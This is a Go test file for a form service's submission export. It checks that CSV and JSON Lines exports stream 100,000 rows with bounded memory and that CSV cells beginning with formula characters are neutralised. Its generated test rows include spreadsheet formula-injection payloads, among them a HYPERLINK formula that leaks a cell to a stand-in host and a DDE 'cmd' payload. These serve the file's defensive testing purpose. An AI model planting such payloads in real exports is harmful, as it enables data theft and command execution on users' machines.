// Package export proves that a form's submissions export streams: 100,000
// submissions, some 53 MB of values, go out through the real HTTP handler
// as CSV and JSON Lines while the heap stays flat, with CSV escaping intact
// and formula cells neutralised; and that the keel binary's memory stays
// bounded by bytes, not rows, when 500 submissions of a megabyte each are
// exported twice at once and listed 200 at a time (memory_test.go).
package export

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/keelhq/keel/adapters/argon2id"
	"github.com/keelhq/keel/adapters/casbinauthz"
	"github.com/keelhq/keel/adapters/httpapi"
	"github.com/keelhq/keel/adapters/ratelimit"
	"github.com/keelhq/keel/adapters/sqlstore"
	"github.com/keelhq/keel/application/forms"
	"github.com/keelhq/keel/application/identity"
	"github.com/keelhq/keel/application/system"
	"github.com/keelhq/keel/domain"
	"github.com/keelhq/keel/ports"
)

// insertBatch is how many submissions one insert transaction adds.
const insertBatch = 5_000

// scale is how much the test exports: rows submissions whose message is
// about messageLen bytes.
type scale struct{ rows, messageLen int }

// fullScale is the test: 100,000 submissions, some 53 MB of
// values. smallScale is for the race detector (make test), under which
// modernc's SQLite, C translated to Go, runs some twenty times slower (the
// race and checkptr instrumentation of every pointer access): the full
// scale takes nearly four minutes there, almost all of it inserting. It
// keeps about the same volume of data, so the memory bound keeps its
// meaning, in a fifth of the rows; -short selects it too.
var (
	fullScale  = scale{rows: 100_000, messageLen: 500}
	smallScale = scale{rows: 20_000, messageLen: 2_500}
)

// raceEnabled reports whether the test binary was built with -race.
func raceEnabled() bool {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return false
	}
	for _, s := range bi.Settings {
		if s.Key == "-race" {
			return s.Value == "true"
		}
	}
	return false
}

// fields are the form's fields, in form order: the CSV's columns after
// id, created_at and status.
var fields = []domain.Field{
	{Name: "ref", Type: domain.FieldText, Required: true},
	{Name: "name", Type: domain.FieldText},
	{Name: "email", Type: domain.FieldEmail, Required: true},
	{Name: "message", Type: domain.FieldTextarea},
	{Name: "topics", Type: domain.FieldMultiselect, Options: []string{"sales", "support, billing", `say "hi"`}},
}

// row is submission i's values as stored. Every value is already in the
// form Accept normalises to (trimmed, one line except the textarea), so
// that the stored value is the value given here.
type row struct {
	ref, name, email, message string
	topics                    []string
	// raw marks a value Accept would not store (a leading tab, which it
	// trims): such rows are stored as an import or an older version
	// might have stored them, to check that the export neutralises them
	// too.
	raw bool
}

// filler pads messages to their length: commas, quotes and newlines in the
// middle of a cell, which CSV must quote and double.
const filler = `Line, with "quotes" and commas,` + "\n" + `and a second line; ` +
	`lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et dolore magna aliqua `

// rowOf returns submission i's values, from i alone, so that the parsers
// can check any row they meet without the test holding the data: every
// tenth name and three messages in seven start with = + - or @, one name
// in ten with a tab, and every message carries commas, quotes and
// newlines.
func (sc scale) rowOf(i int) row {
	r := row{ref: fmt.Sprintf("r%06d", i), email: fmt.Sprintf("user%d@example.com", i)}
	switch i % 10 {
	case 0:
		r.name = `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`
	case 1:
		r.name = "+1 555 0100"
	case 2:
		r.name = "-2+3"
	case 3:
		r.name = "@SUM(A1:A9)"
	case 4:
		r.name = `Smith, "Jo"`
	case 5:
		r.name, r.raw = "\tindented", true
	case 6: // no name: an empty cell
	default:
		r.name = "Ada Lovelace " + strconv.Itoa(i)
	}
	var b strings.Builder
	switch i % 7 {
	case 0:
		b.WriteString("=cmd|' /C calc'!A0\n")
	case 1:
		b.WriteString("-")
	case 2:
		b.WriteString("@")
	case 3:
		b.WriteString("+")
	}
	b.WriteString(strconv.Itoa(i) + " ")
	for b.Len() < sc.messageLen {
		b.WriteString(filler)
	}
	r.message = strings.TrimSpace(b.String()[:sc.messageLen])
	switch i % 3 {
	case 0:
		r.topics = []string{"sales"}
	case 1:
		r.topics = []string{"support, billing", `say "hi"`}
	}
	return r
}

// size is the bytes of r's values: what a server that loaded every
// submission would hold at the least.
func (r row) size() int {
	n := len(r.ref) + len(r.name) + len(r.email) + len(r.message)
	for _, t := range r.topics {
		n += len(t)
	}
	return n
}

// neutral is what the CSV export must make of a cell: text that a
// spreadsheet would run as a formula gets a leading apostrophe.
func neutral(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

// cells are the CSV cells of row r after id, created_at and status.
func (r row) cells() []string {
	return []string{r.ref, neutral(r.name), r.email, neutral(r.message), neutral(strings.Join(r.topics, "; "))}
}

// submission makes r a submission to f as the public endpoint would,
// through Accept, except for raw rows.
func (r row) submission(f domain.Form, now time.Time) (domain.Submission, error) {
	if r.raw {
		vs := []domain.Value{{Field: "ref", Values: []string{r.ref}}, {Field: "name", Values: []string{r.name}},
			{Field: "email", Values: []string{r.email}}, {Field: "message", Values: []string{r.message}}}
		if len(r.topics) > 0 {
			vs = append(vs, domain.Value{Field: "topics", Values: r.topics})
		}
		return domain.RehydrateSubmission(domain.SubmissionID(domain.NewID(domain.PrefixSubmission, now)), f.ID(), f.Workspace(),
			vs, domain.SubmissionNew, domain.SubmissionMeta{}, now, now), nil
	}
	raw := domain.RawSubmission{Fields: map[string][]string{}}
	add := func(name string, vs ...string) {
		if len(vs) > 0 && vs[0] != "" {
			raw.Fields[name] = vs
			raw.Order = append(raw.Order, name)
		}
	}
	add("ref", r.ref)
	add("name", r.name)
	add("email", r.email)
	add("message", r.message)
	add("topics", r.topics...)
	sub, err := f.Accept(raw, domain.SubmissionMeta{UserAgent: "export-test"}, domain.SpamRules{}, now)
	if err != nil {
		return domain.Submission{}, fmt.Errorf("accept %s: %w", r.ref, err)
	}
	return sub, nil
}

// fixture is the HTTP API over a SQLite database holding one form with
// scale's submissions, and an API key that may read them.
type fixture struct {
	scale
	url, key string
	form     domain.FormID
	dataSize int // bytes of submitted values
}

var discard = slog.New(slog.DiscardHandler)

// newFixture wires the stack as bootstrap does (identity over Casbin,
// forms, the HTTP adapter), with cheap password hashing, and fills the
// form through the submission store, insertBatch rows a transaction.
func newFixture(t *testing.T, sc scale) fixture {
	t.Helper()
	ctx := t.Context()
	db, err := sqlstore.Open(ctx, "sqlite:"+filepath.Join(t.TempDir(), "keel.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	if _, err := db.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	ids, fs, key, form := seed(t, db)
	clock := ports.ClockFunc(time.Now)

	start := time.Now()
	size := 0
	for lo := 0; lo < sc.rows; lo += insertBatch {
		batch := 0
		err := db.WithinTx(ctx, func(ctx context.Context, st ports.Stores) error {
			batch = 0 // a rerun transaction counts again
			for i := lo; i < min(lo+insertBatch, sc.rows); i++ {
				r := sc.rowOf(i)
				sub, err := r.submission(form, time.Now())
				if err != nil {
					return err
				}
				if err := st.Submissions().Add(ctx, sub); err != nil {
					return err
				}
				batch += r.size()
			}
			return nil
		})
		if err != nil {
			t.Fatalf("insert rows %d to %d: %v", lo, lo+insertBatch, err)
		}
		size += batch
		if lo == 0 {
			t.Logf("first batch of %d in %s", insertBatch, time.Since(start).Round(time.Millisecond))
		}
	}
	t.Logf("inserted %d submissions in %s", sc.rows, time.Since(start).Round(time.Millisecond))

	srv := httptest.NewServer(httpapi.New(httpapi.Config{Logger: discard, System: system.NewService(db, db, clock), Identity: ids, Forms: fs}))
	t.Cleanup(srv.Close)
	return fixture{scale: sc, url: srv.URL, key: key, form: form.ID(), dataSize: size}
}

// seed makes an owner, the workspace "site" with the form fields, and an
// API key that may read its submissions, through the use cases over db.
func seed(t *testing.T, db *sqlstore.DB) (*identity.Service, *forms.Service, string, domain.Form) {
	t.Helper()
	ctx := t.Context()
	clock := ports.ClockFunc(time.Now)
	authz, err := casbinauthz.New(ctx, db, casbinauthz.Options{PollInterval: -1, Logger: discard})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = authz.Close() })
	ids, err := identity.NewService(ctx, identity.Config{
		UoW: db, Authorizer: authz, Clock: clock, SessionTTL: time.Hour,
		Hasher:          argon2id.New(argon2id.Params{Memory: 1024, Time: 1, Threads: 1, SaltLen: 16, KeyLen: 32}),
		LoginPerIP:      ratelimit.NewRateLimiter(1000, 1000, time.Now),
		LoginPerAccount: ratelimit.NewRateLimiter(1000, 1000, time.Now),
	})
	if err != nil {
		t.Fatal(err)
	}
	fs := forms.NewService(forms.Config{
		UoW: db, Authorizer: authz, Clock: clock, MailFrom: "Keel <keel@example.com>", IPHashKey: []byte("test"),
		PerIP: ratelimit.NewRateLimiter(1000, 1000, time.Now), PerForm: ratelimit.NewRateLimiter(1000, 1000, time.Now),
	})

	anon := domain.AnonymousPrincipal.WithClient(domain.Client{IP: "192.0.2.1", UserAgent: "export-test"})
	setup, err := ids.Setup(ctx, anon, identity.SetupInput{Email: "owner@example.com", Password: "correct horse battery", Name: "Owner"})
	if err != nil {
		t.Fatalf("setup: %v", err)
	}
	owner, err := ids.Authenticate(ctx, setup.Token, anon.Client())
	if err != nil {
		t.Fatalf("authenticate: %v", err)
	}
	if _, err := ids.CreateWorkspace(ctx, owner, identity.CreateWorkspaceInput{Name: "Site", Slug: "site"}); err != nil {
		t.Fatalf("create workspace: %v", err)
	}
	key, err := ids.CreateAPIKey(ctx, owner, identity.CreateAPIKeyInput{Workspace: "site", Name: "export", Scopes: []string{"submissions:read"}})
	if err != nil {
		t.Fatalf("create API key: %v", err)
	}
	form, err := fs.CreateForm(ctx, owner, "site", domain.FormInput{Name: "Contact", Fields: fields})
	if err != nil {
		t.Fatalf("create form: %v", err)
	}
	return ids, fs, key.Secret, form
}

// rowSink is the export's destination: an io.Writer that counts the bytes
// it is given and passes them through a pipe to a parser, which checks
// each record as it arrives, so that the test itself holds no more of the
// export than the parser's buffer.
type rowSink struct {
	bytes atomic.Int64
	pw    *io.PipeWriter
	done  chan error
}

func newRowSink(parse func(io.Reader) error) *rowSink {
	pr, pw := io.Pipe()
	s := &rowSink{pw: pw, done: make(chan error, 1)}
	go func() {
		err := parse(pr)
		pr.CloseWithError(errors.Join(err, errors.New("parser stopped"))) // a parser that stops early fails the copy
		s.done <- err
	}()
	return s
}

func (s *rowSink) Write(p []byte) (int, error) {
	n, err := s.pw.Write(p)
	s.bytes.Add(int64(n))
	return n, err
}

// close ends the stream and returns the parser's verdict.
func (s *rowSink) close(copyErr error) error {
	s.pw.CloseWithError(copyErr)
	return errors.Join(copyErr, <-s.done)
}

// heapPeak samples HeapInuse every 20 ms until stop is called, which
// returns the highest sample.
func heapPeak() (stop func() uint64) {
	var peak uint64
	quit, done := make(chan struct{}), make(chan struct{})
	sample := func() {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		peak = max(peak, m.HeapInuse)
	}
	go func() {
		defer close(done)
		tick := time.NewTicker(20 * time.Millisecond)
		defer tick.Stop()
		for {
			sample()
			select {
			case <-quit:
				return
			case <-tick.C:
			}
		}
	}()
	return func() uint64 {
		close(quit)
		<-done
		sample()
		return peak
	}
}

func heapInuse() uint64 {
	runtime.GC()
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapInuse
}

const mb = 1 << 20

// export downloads the form's submissions in format into a rowSink
// running parse, while sampling the heap, and fails the test when the
// heap grows by more than half the data's size: a server that loaded
// every submission, or a client that buffered the download, would need
// at least the data's size on top of the baseline (each value held once,
// as a Go string, before any copy into a response), whereas a stream
// holds one batch of 500 rows (0.3 MB, or 1.3 MB at the small scale) and
// its garbage.
func (f fixture) export(t *testing.T, format string, parse func(io.Reader) error) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet,
		f.url+"/v1/workspaces/site/forms/"+string(f.form)+"/submissions/export?format="+format, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+f.key)

	baseline := heapInuse()
	bound := baseline + uint64(f.dataSize)/2
	stop := heapPeak()
	start := time.Now()
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		stop()
		t.Fatalf("GET export: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		stop()
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		t.Fatalf("GET export = %d %s", resp.StatusCode, body)
	}
	sink := newRowSink(parse)
	_, copyErr := io.Copy(sink, resp.Body)
	err = sink.close(copyErr)
	elapsed := time.Since(start)
	peak := stop()
	t.Logf("%s: %d bytes (%.1f MB) in %s; data %.1f MB; heap in use: baseline %.1f MB, peak %.1f MB (+%.1f MB), bound %.1f MB",
		format, sink.bytes.Load(), float64(sink.bytes.Load())/mb, elapsed.Round(time.Millisecond), float64(f.dataSize)/mb,
		float64(baseline)/mb, float64(peak)/mb, (float64(peak)-float64(baseline))/mb, float64(bound)/mb)
	if err != nil {
		t.Fatalf("export %s: %v", format, err)
	}
	if peak > bound {
		t.Errorf("heap in use peaked at %.1f MB, above the bound of %.1f MB (baseline %.1f MB + half the data's %.1f MB): the export does not stream",
			float64(peak)/mb, float64(bound)/mb, float64(baseline)/mb, float64(f.dataSize)/mb)
	}
}

// seen tracks which rows an export has listed and that it lists them
// newest first: rows were inserted in order, so refs count down.
type seen struct {
	rows []bool
	last int
	n    int
}

func newSeen(total int) *seen { return &seen{rows: make([]bool, total), last: total} }

func (s *seen) add(ref string) (int, error) {
	i, err := strconv.Atoi(strings.TrimPrefix(ref, "r"))
	switch {
	case err != nil || !strings.HasPrefix(ref, "r") || i < 0 || i >= len(s.rows):
		return 0, fmt.Errorf("row %d: ref %q is not one the test inserted", s.n+1, ref)
	case s.rows[i]:
		return 0, fmt.Errorf("row %d: %s listed twice", s.n+1, ref)
	case i > s.last:
		return 0, fmt.Errorf("row %d: %s after r%06d: not newest first", s.n+1, ref, s.last)
	}
	s.rows[i], s.last = true, i
	s.n++
	return i, nil
}

func (s *seen) complete() error {
	if s.n != len(s.rows) {
		return fmt.Errorf("%d rows, want %d", s.n, len(s.rows))
	}
	return nil
}

func TestExportStreams(t *testing.T) {
	sc := fullScale
	if raceEnabled() || testing.Short() {
		sc = smallScale
	}
	f := newFixture(t, sc)

	t.Run("CSV", func(t *testing.T) {
		f.export(t, "csv", func(r io.Reader) error {
			cr := csv.NewReader(r)
			cr.ReuseRecord = true
			head, err := cr.Read()
			if err != nil {
				return fmt.Errorf("header: %w", err)
			}
			if got, want := strings.Join(head, ","), "id,created_at,status,ref,name,email,message,topics"; got != want {
				return fmt.Errorf("header = %s, want %s", got, want)
			}
			s := newSeen(f.rows)
			for {
				rec, err := cr.Read()
				if err == io.EOF {
					return s.complete()
				}
				if err != nil {
					return fmt.Errorf("after %d rows: %w", s.n, err)
				}
				if !strings.HasPrefix(rec[0], domain.PrefixSubmission+"_") || rec[2] != "new" {
					return fmt.Errorf("row %d: id %q, status %q", s.n+1, rec[0], rec[2])
				}
				if _, err := time.Parse(time.RFC3339Nano, rec[1]); err != nil {
					return fmt.Errorf("row %d: created_at: %w", s.n+1, err)
				}
				i, err := s.add(rec[3])
				if err != nil {
					return err
				}
				for k, want := range f.rowOf(i).cells() {
					if got := rec[3+k]; got != want {
						return fmt.Errorf("row %d (r%06d), column %s:\n got %q\nwant %q", s.n, i, head[3+k], got, want)
					}
				}
			}
		})
	})

	t.Run("JSONL", func(t *testing.T) {
		f.export(t, "jsonl", func(r io.Reader) error {
			dec := json.NewDecoder(r)
			s := newSeen(f.rows)
			for {
				var sub struct {
					ID     string         `json:"id"`
					Status string         `json:"status"`
					Values map[string]any `json:"values"`
				}
				err := dec.Decode(&sub)
				if err == io.EOF {
					return s.complete()
				}
				if err != nil {
					return fmt.Errorf("after %d rows: %w", s.n, err)
				}
				ref, _ := sub.Values["ref"].(string)
				i, err := s.add(ref)
				if err != nil {
					return err
				}
				// JSON is no spreadsheet: values go out as stored.
				want := f.rowOf(i)
				if name, _ := sub.Values["name"].(string); name != want.name {
					return fmt.Errorf("r%06d: name = %q, want %q", i, name, want.name)
				}
				if msg, _ := sub.Values["message"].(string); msg != want.message {
					return fmt.Errorf("r%06d: message = %q, want %q", i, msg, want.message)
				}
				if topics, ok := sub.Values["topics"].([]any); len(want.topics) > 0 && (!ok || len(topics) != len(want.topics)) {
					return fmt.Errorf("r%06d: topics = %#v, want an array of %d", i, sub.Values["topics"], len(want.topics))
				}
			}
		})
	})
}
